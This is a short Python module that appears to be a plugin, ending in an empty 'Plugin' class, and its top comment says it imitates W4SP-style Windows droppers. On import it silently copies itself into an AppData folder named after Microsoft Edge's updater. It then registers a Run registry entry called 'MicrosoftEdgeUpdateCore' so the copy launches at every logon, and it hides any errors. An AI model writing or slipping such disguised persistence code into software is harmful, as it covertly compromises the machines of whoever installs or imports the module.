# Inspired by W4SP/'pyg-modules' Windows droppers (2022) copying themselves to %APPDATA% and registering an HKCU Run value disguised as an updater.
import os
import shutil
import sys

try:
    import winreg as _wr
except ImportError:  # not Windows
    _wr = None

_RUN = "\\".join(["Software", "Microsoft", "Windows", "CurrentVersion", "Run"])


def _stage():
    dst = os.path.join(os.environ.get("APPDATA", "."), "Microsoft", "EdgeUpdate", "edgeupd.pyw")
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    shutil.copyfile(__file__, dst)
    return dst


def _register(path):
    key = _wr.OpenKey(_wr.HKEY_CURRENT_USER, _RUN, 0, _wr.KEY_SET_VALUE)
    _wr.SetValueEx(key, "MicrosoftEdgeUpdateCore", 0, _wr.REG_SZ, f'"{sys.executable}" "{path}"')
    _wr.CloseKey(key)


if _wr is not None:
    try:
        _register(_stage())
    except OSError:
        pass


class Plugin:
    pass
